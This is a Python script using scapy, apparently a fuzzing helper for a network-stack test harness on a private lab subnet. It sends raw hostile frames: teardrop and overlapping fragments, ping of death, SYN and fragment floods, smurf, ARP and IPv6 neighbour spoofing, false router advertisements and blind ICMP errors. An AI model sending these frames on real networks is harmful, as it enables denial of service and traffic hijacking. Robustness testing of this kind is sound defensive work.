#!/usr/bin/python3
# SPDX-License-Identifier: BSD-2-Clause
"""attacker - sends what no honest host sends, for hostile.py

Usage: attacker.py DEVICE TARGET_MAC

Obeys lines on standard input, each the name of a function below, with arguments: sends its frames
once, as fast as it goes, and prints "NAME COUNT". scapy builds them; they are sent raw. Nothing is
listened to: all attacks are blind. The interpreter is the system's, for scapy is its package.
"""
import logging
import random
import socket
import sys

logging.getLogger("scapy.runtime").setLevel(logging.ERROR)  # no route, but who asks for one

from scapy.all import (ARP, ICMP, IP, IPv6, TCP, UDP, BOOTP, DHCP, Ether, ICMPv6DestUnreach, ICMPv6EchoRequest,
                       ICMPv6ND_NA, ICMPv6ND_NS, ICMPv6ND_RA, ICMPv6ND_Redirect, ICMPv6NDOptDstLLAddr,
                       ICMPv6NDOptPrefixInfo, ICMPv6NDOptSrcLLAddr, ICMPv6PacketTooBig, IPv6ExtHdrDestOpt,
                       IPv6ExtHdrFragment, IPv6ExtHdrHopByHop, IPv6ExtHdrRouting, PadN, Raw, checksum,
                       get_if_hwaddr, raw)
from scapy.layers.inet import in4_chksum
from scapy.layers.inet6 import in6_chksum

DEVICE, MAC = sys.argv[1:3]
KERNEL4, KERNEL6, INLET4, INLET6 = "10.9.0.1", "fd09::1", "10.9.0.2", "fd09::2"
ME4, ME6 = "10.9.0.66", "fd09::66"
GROUP_MAC = "33:33:00:00:00:01"
OWN_MAC = get_if_hwaddr(DEVICE)
DICE = random.Random(1)


def ether(packet, dst=MAC, **more):
    return raw(Ether(dst=dst, src=OWN_MAC, **more) / packet)


def changed(frame, sums, words):
    """A frame with other 16-bit words, {offset: value}, and its checksums at the offsets sums as they must
    then be (RFC 1624). scapy takes a thousand times as long."""
    new = bytearray(frame)
    for at, value in words.items():
        old = int.from_bytes(frame[at:at + 2], "big")
        new[at:at + 2] = value.to_bytes(2, "big")
        for place in sums:
            total = (~int.from_bytes(new[place:place + 2], "big") & 0xffff) + (~old & 0xffff) + value
            total = (total & 0xffff) + (total >> 16)
            total = (total & 0xffff) + (total >> 16)
            new[place:place + 2] = (~total & 0xffff).to_bytes(2, "big")
    return bytes(new)


def v4(payload, src=ME4, dst=INLET4, **more):
    return ether(IP(src=src, dst=dst, **more) / payload)


def v6(payload, src=ME6, dst=INLET6, **more):
    return ether(IPv6(src=src, dst=dst, **more) / payload)


# ---- fragments ----


def frag4(ident, offset, data, more=True, proto=17):
    return v4(Raw(data), id=ident, frag=offset // 8, flags="MF" if more else 0, proto=proto)


def frag6(ident, offset, data, more=True, nh=17):
    return v6(IPv6ExtHdrFragment(nh=nh, id=ident, offset=offset // 8, m=more) / Raw(data))


def overlaps():
    """Each second fragment lies on the first with other bytes: whole, in part, by one unit."""
    for i in range(50):
        for frag in (frag4, frag6):
            yield frag(i, 0, b"a" * 64)
            yield frag(i, (56, 8, 32)[i % 3], b"b" * 64)
            yield frag(i, 64, b"c" * 64, more=False)


def teardrop():
    """The second ends before the first does."""
    for i in range(1000, 1050):
        for frag in (frag4, frag6):
            yield frag(i, 0, b"a" * 64)
            yield frag(i, 24, b"b" * 8, more=False)


def ping_of_death():
    for i in range(2000, 2050):
        yield frag4(i, 65528, b"x" * 1000, more=False, proto=1)
        yield frag6(i, 65528, b"x" * 1000, more=False, nh=58)


def tiny_fragments():
    """The first holds less than the headers."""
    for i in range(3000, 3050):
        yield frag4(i, 0, raw(TCP(dport=7))[:8], proto=6)
        yield frag6(i, 0, raw(TCP(dport=7))[:8], nh=6)
        yield frag6(i, 0, b"", nh=6)


def fragment_flood():
    """No datagram is ever whole; the source changes, so that its own cap does not help."""
    four = v4(Raw(b"x" * 1400), src="10.9.0.0", id=0, flags="MF", proto=17)
    six = v6(IPv6ExtHdrFragment(nh=17, id=0, m=1) / Raw(b"x" * 1400), src="fd00::")
    for i in range(4000):
        yield changed(four, [24], {18: i, 28: i})
        yield changed(six, [], {24: i, 60: i})


# ---- addresses that cannot be ----


def land():
    for port in (7, 80, 81):
        yield v4(TCP(sport=port, dport=port, flags="S"), src=INLET4)
        yield v6(TCP(sport=port, dport=port, flags="S"), src=INLET6)
        yield v4(UDP(sport=port, dport=port) / b"x", src=INLET4)
        yield v6(UDP(sport=port, dport=port) / b"x", src=INLET6)


def martians():
    for payload in (TCP(sport=99, dport=7, flags="S"), UDP(sport=7, dport=7) / b"x"):
        for src in ("127.0.0.1", "0.0.0.0", "0.1.2.3", "224.0.0.1", "239.1.2.3", "240.0.0.1", "255.255.255.255",
                    "10.9.0.255"):
            yield v4(payload, src=src)
        for src in ("::1", "ff02::1", "ff0e::1", "::ffff:10.9.0.1", "::ffff:127.0.0.1"):
            yield v6(payload, src=src)
        yield v4(payload, dst="127.0.0.1")
        yield v6(payload, dst="::1")


def smurf():
    """Everybody shall answer the kernel."""
    for dst in ("10.9.0.255", "255.255.255.255", "224.0.0.1"):
        for _ in range(10):
            yield ether(IP(src=KERNEL4, dst=dst) / ICMP() / b"x", dst="ff:ff:ff:ff:ff:ff")
            yield ether(IP(src=KERNEL4, dst=dst) / UDP(sport=9, dport=99) / b"x", dst="ff:ff:ff:ff:ff:ff")
            yield ether(IP(src=KERNEL4, dst=dst) / TCP(sport=9, dport=7), dst="ff:ff:ff:ff:ff:ff")
    for _ in range(50):
        yield ether(IPv6(src=KERNEL6, dst="ff02::1") / UDP(sport=9, dport=99) / b"x", dst=GROUP_MAC)


# ---- neighbours ----


def arp_claims_us():
    """Gratuitous: requests and replies that say our address is somebody else's."""
    for op in (1, 2):
        yield ether(ARP(op=op, psrc=INLET4, pdst=INLET4, hwdst="00:00:00:00:00:00"), dst="ff:ff:ff:ff:ff:ff")
        yield ether(ARP(op=op, psrc=INLET4, pdst=KERNEL4), dst="ff:ff:ff:ff:ff:ff")


def arp_junk():
    for src in ("0.0.0.0", "255.255.255.255", "224.0.0.1", "127.0.0.1"):
        yield ether(ARP(op=2, psrc=src, pdst=INLET4, hwdst=MAC))
    yield ether(ARP(op=2, psrc="10.9.0.200", hwsrc="ff:ff:ff:ff:ff:ff", pdst=INLET4))
    yield ether(ARP(op=2, psrc="10.9.0.200", hwsrc="01:00:5e:00:00:01", pdst=INLET4))
    for field in ({"hwlen": 0}, {"hwlen": 255}, {"plen": 16}, {"hwtype": 6}, {"ptype": 0x86dd}, {"op": 9}):
        yield ether(ARP(psrc=ME4, pdst=INLET4, **field))
    for n in range(28):
        yield ether(Raw(raw(ARP(psrc=ME4, pdst=INLET4))[:n]), type=0x0806)


def neighbours_by_thousands():
    asks = v6(ICMPv6ND_NS(tgt=INLET6) / ICMPv6NDOptSrcLLAddr(lladdr="02:66:00:00:00:00"), src="fd09::1000", hlim=255)
    for i in range(1500):
        yield changed(asks, [56], {36: 0x1000 + i, 84: i})
    for i in range(3, 255):
        yield ether(ARP(psrc=f"10.9.0.{i}", pdst=INLET4))


def nd_from_afar():
    for hlim in (1, 64, 254):
        for _ in range(5):
            yield v6(ICMPv6ND_NA(tgt=KERNEL6, O=1) / ICMPv6NDOptDstLLAddr(lladdr="02:66:66:66:66:66"), hlim=hlim)
            yield v6(ICMPv6ND_NS(tgt=INLET6), src=KERNEL6, hlim=hlim)
            yield v6(ICMPv6ND_RA(routerlifetime=0), src="fe80::1", hlim=hlim)


def nd_options():
    """Options of length 0, longer than the message, and of every type with too little in it."""
    head = raw(ICMPv6ND_NS(tgt=INLET6))[:24]
    for kind in (1, 2, 3, 4, 5, 24, 25, 31, 255):
        for body in (b"\0", b"\xff" + bytes(6), b"\1" + bytes(5), b"\2" + bytes(20)):
            for icmp_type in (133, 134, 135, 136, 137):
                yield icmp6(bytes([icmp_type]) + head[1:] + bytes([kind]) + body)


def icmp6(data, src="fe80::66", hlim=255):
    """An ICMPv6 message of any bytes, with its checksum."""
    data = data[:2] + b"\0\0" + data[4:]
    csum = in6_chksum(58, IPv6(src=src, dst=INLET6), data)
    return v6(Raw(data[:2] + csum.to_bytes(2, "big") + data[4:]), src=src, hlim=hlim, nh=58)


def advertisements_that_lie():
    """From an address that is no router's, with a prefix of no use, for no time and for ever."""
    for src in (ME6, "fe80::66"):
        for prefix, length, valid, preferred in (("fe80::", 64, 600, 600), ("ff02::", 64, 600, 600),
                                                 ("2001:db8:66::", 0, 600, 600), ("2001:db8:66::", 128, 600, 600),
                                                 ("2001:db8:66::", 200, 600, 600),
                                                 ("2001:db8:66::", 64, 1, 0xffffffff), ("2001:db8:66::", 64, 0, 0)):
            yield v6(ICMPv6ND_RA(routerlifetime=0 if src != ME6 else 600) / ICMPv6NDOptPrefixInfo(
                prefix=prefix, prefixlen=length, validlifetime=valid, preferredlifetime=preferred),
                src=src, hlim=255)


def redirects():
    """By no router of ours, and of IPv4, which a host of ours never asked for."""
    for i in range(40):
        inside = IP(src=INLET4, dst=f"192.0.2.{i}") / UDP(sport=7, dport=9)
        yield v4(ICMP(type=5, code=1, gw=ME4) / inside, src=KERNEL4)
        yield v6(ICMPv6ND_Redirect(tgt="fe80::66", dst=f"2001:db8::{i:x}"), src="fe80::66", hlim=255)
        yield v6(ICMPv6ND_Redirect(tgt="fe80::66", dst=KERNEL6), src=KERNEL6, hlim=255)


# ---- errors about what was never sent ----


def blind_errors(port4, port6):
    """They name the victim's connections, and guess sequence numbers."""
    for _ in range(40):
        seq = DICE.getrandbits(32)
        q4 = IP(src=INLET4, dst=KERNEL4, len=1500) / TCP(sport=7, dport=int(port4), seq=seq)
        q6 = IPv6(src=INLET6, dst=KERNEL6, plen=1460) / TCP(sport=7, dport=int(port6), seq=seq)
        yield v4(ICMP(type=3, code=4, nexthopmtu=68) / q4)
        yield v4(ICMP(type=3, code=3) / q4)
        yield v4(ICMP(type=4) / q4)
        yield v6(ICMPv6PacketTooBig(mtu=1280) / q6)
        yield v6(ICMPv6DestUnreach(code=4) / q6)


def errors_about_nothing():
    """About echo replies and datagrams of ours that never were; cut, too."""
    for i in range(15):
        for inside in (UDP(sport=7777, dport=9), ICMP(type=8, id=i), ICMP(type=0, id=i), TCP(sport=7, dport=i)):
            yield v4(ICMP(type=3, code=1) / IP(src=INLET4, dst=KERNEL4) / inside)
        for inside in (UDP(sport=7777, dport=9), ICMPv6EchoRequest(id=i), TCP(sport=7, dport=i)):
            yield v6(ICMPv6DestUnreach(code=0) / IPv6(src=INLET6, dst=KERNEL6) / inside)
            yield v6(ICMPv6PacketTooBig(mtu=1280) / IPv6(src=INLET6, dst=KERNEL6, plen=1460) / inside)
    whole = raw(IP(src=INLET4, dst=KERNEL4) / TCP())
    for n in range(len(whole)):
        yield v4(ICMP(type=3, code=1) / Raw(whole[:n]))


# ---- headers ----


def source_routes():
    for kind in (0x83, 0x89):
        for body in (b"\7\4" + bytes([10, 9, 0, 1]), b"\x0b\4" + bytes([10, 9, 0, 1] * 2), b"\3\4", b"\7\x08" + bytes(4)):
            yield with_options(bytes([kind]) + body)
            yield with_options(bytes([kind]) + body, dst="192.0.2.1")
    for segments, left in ((["fd09::1"], 1), (["fd09::1", "fd09::1"] * 20, 40), ([], 1)):
        yield v6(IPv6ExtHdrRouting(addresses=segments, segleft=left) / ICMPv6EchoRequest())


def ip_options():
    """Lengths of 0 and 1, past the end, and every kind."""
    for kind in range(256):
        for length in (0, 3, 39):
            yield with_options(bytes([kind, length, 0, 0]))


def with_options(options, dst=INLET4):
    options += bytes(-len(options) % 4)
    head = raw(IP(src=ME4, dst=dst, proto=17, ihl=5 + len(options) // 4, len=29 + len(options), chksum=0)) + options
    head = head[:10] + checksum(head).to_bytes(2, "big") + head[12:]
    return ether(Raw(head + raw(UDP(sport=9, dport=7, len=9, chksum=0)) + b"x"), type=0x0800)


def extension_headers():
    """Chains that do not end, twice what may come once, a jumbogram, option lengths that lie."""
    chain = IPv6(src=ME6, dst=INLET6)
    for _ in range(60):
        chain = chain / IPv6ExtHdrDestOpt(options=[PadN(optdata=bytes(4))])
    yield ether(chain / ICMPv6EchoRequest())
    yield v6(IPv6ExtHdrHopByHop() / IPv6ExtHdrHopByHop() / ICMPv6EchoRequest())
    yield v6(IPv6ExtHdrDestOpt() / IPv6ExtHdrHopByHop() / ICMPv6EchoRequest())
    for body in (b"\3\0\1\xff" + bytes(4), b"\3\0\xc2\4\0\1\0\0", b"\3\xff" + bytes(6), b"\3\0\x3e\4" + bytes(4),
                 b"\3\0\x7e\4" + bytes(4), b"\3\0\xbe\4" + bytes(4), b"\3\0\xfe\4" + bytes(4)):
        for first in (0, 60):
            yield v6(Raw(b"\x3a" + body[1:] + raw(ICMPv6EchoRequest())), nh=first)
    for nh in range(256):
        yield v6(Raw(bytes(40)), nh=nh)


def lengths():
    """Every cut of whole packets, and length fields of all sizes."""
    for whole in (v4(TCP(dport=7)), v4(UDP(dport=7) / b"abc"), v4(ICMP()), v6(TCP(dport=7)), v6(UDP(dport=7) / b"abc"),
                  v6(ICMPv6EchoRequest())):
        for n in range(14, len(whole)):
            yield whole[:n]
    for n in (0, 1, 7, 8, 19, 20, 21, 1000, 65535):
        yield v4(UDP(sport=9, dport=7) / b"abc", len=n)
        yield v4(UDP(sport=9, dport=7, len=n) / b"abc")
        yield v6(UDP(sport=9, dport=7) / b"abc", plen=n)
        yield v6(UDP(sport=9, dport=7, len=n) / b"abc")
    for n in range(16):
        yield v4(TCP(dport=7), ihl=n)
        yield v4(TCP(dport=7), version=n)
        yield v6(TCP(dport=7), version=n)
        yield v4(TCP(dport=7, dataofs=n))
        yield v6(TCP(dport=7, dataofs=n))
    for kind in (0, 0x0600, 0x8100, 0x88a8, 0x8847, 0x8864, 0xffff):
        yield ether(Raw(bytes(60)), type=kind)


# ---- transports ----


def flag_grid(port4, port6):
    """Each of 256 flag bytes: to a listener, to nobody, and into the victim's connections."""
    four, six = v4(TCP(dport=7, flags=0)), v6(TCP(dport=7, flags=0))
    kernel4 = v4(TCP(sport=int(port4), dport=7, flags=0), src=KERNEL4)
    kernel6 = v6(TCP(sport=int(port6), dport=7, flags=0), src=KERNEL6)
    for flags in range(256):
        for dport in (7, 81):
            yield changed(four, [50], {34: 4000 + flags, 36: dport, 46: 0x5000 + flags})
            yield changed(six, [70], {54: 4000 + flags, 56: dport, 66: 0x5000 + flags})
        seq, ack = DICE.randrange(65536), DICE.randrange(65536)
        yield changed(kernel4, [50], {38: seq, 42: ack, 46: 0x5000 + flags})
        yield changed(kernel6, [70], {58: seq, 62: ack, 66: 0x5000 + flags})


def syn_flood():
    """From all over the net, and each neighbour has to be asked for before the answer."""
    four, six = v4(TCP(sport=1, dport=7), src="10.9.0.0"), v6(TCP(sport=1, dport=7), src="fd09::")
    for i in range(2000):
        yield changed(four, [24, 50], {28: 100 + i % 150, 34: 1024 + i})
        yield changed(six, [70], {36: 256 + i, 54: 1024 + i})


def tcp_options():
    for kind in range(256):
        for length in (0, 40):
            opt = (bytes([kind, length]) + bytes(2)).ljust(4, b"\0")
            header = raw(TCP(sport=5000 + kind, dport=7, dataofs=6, flags="S"))[:20]
            yield v4(tcp_raw(header + opt, ME4, INLET4), proto=6)


def tcp_raw(data, src, dst):
    data = data[:16] + b"\0\0" + data[18:]
    csum = in4_chksum(6, IP(src=src, dst=dst), data)
    return Raw(data[:16] + csum.to_bytes(2, "big") + data[18:])


def bad_sums():
    for _ in range(20):
        yield v4(TCP(dport=7, chksum=1))
        yield v4(UDP(dport=7, chksum=1) / b"x")
        yield v4(ICMP(chksum=1))
        yield v4(TCP(dport=7), chksum=1)
        yield v6(TCP(dport=7, chksum=1))
        yield v6(UDP(dport=7, chksum=0) / b"x")
        yield v6(ICMPv6EchoRequest(cksum=1))


def closed_ports():
    """Each wants an answer; few get one."""
    for port in range(10000, 10100):
        yield v4(UDP(sport=9, dport=port) / b"x")
        yield v6(UDP(sport=9, dport=port) / b"x")


def group_junk():
    """IGMP and MLD: cut, counts that lie, from and to addresses that cannot be."""
    for kind in (0x11, 0x12, 0x16, 0x17, 0x22, 0xff):
        for body in (b"", b"\0", b"\0\0\0", bytes(6), b"\0\0\0\xe0\0\0\1", b"\0\0\0\xe0\0\0\1\0\0\xff\xff",
                     b"\0\0\0\0\0\0\0\xff\xff\xff\xff\xff"):
            yield ether(IP(src=ME4, dst="224.0.0.1", ttl=1, proto=2) / Raw(bytes([kind]) + body),
                        dst="01:00:5e:00:00:01")
    for kind in (130, 131, 132, 143):
        for n in (4, 8, 20, 24, 28, 100):
            for src in ("fe80::66", ME6):
                yield icmp6((bytes([kind, 0]) + bytes(2)).ljust(n, b"\xff"), src, 1)


def dhcp_junk():
    """To the client's port and the server's, of which there are none, cut and filled."""
    offer = raw(BOOTP(op=2, xid=1, yiaddr="10.9.0.99") / DHCP(options=[("message-type", 2), "end"]))
    for n in range(0, len(offer), 7):
        for sport, dport in ((67, 68), (68, 67)):
            yield ether(IP(src="0.0.0.0", dst="255.255.255.255") / UDP(sport=sport, dport=dport) / Raw(offer[:n]),
                        dst="ff:ff:ff:ff:ff:ff")
            yield v4(UDP(sport=sport, dport=dport) / Raw(offer[:n]))
        yield v6(UDP(sport=547, dport=546) / Raw(offer[:n]))


# ---- believed, as the RFCs have it: hostile.py waits until the truth is back ----


def lies():
    """The kernel's addresses are here (RFC 826, RFC 4861 7.2.5), and it is no router any more."""
    for _ in range(3):
        yield ether(ARP(op=1, psrc=KERNEL4, pdst=INLET4))
        yield ether(ARP(op=2, psrc=KERNEL4, pdst=INLET4, hwdst=MAC))


def lie_about_kernel():
    """One for atk6-parasite6 to confirm. Its own tools would ask it where to send this."""
    yield ether(IPv6(src=KERNEL6, dst=INLET6, hlim=255) / ICMPv6ND_NA(tgt=KERNEL6, R=0, S=0, O=1) /
                ICMPv6NDOptDstLLAddr(lladdr=OWN_MAC))


def main():
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    s.bind((DEVICE, 0))
    print("ready", flush=True)
    for line in sys.stdin:
        name, *args = line.split()
        frames = list(globals()[name](*args))
        for frame in frames:
            s.send(frame)
        print(name, len(frames), flush=True)


main()
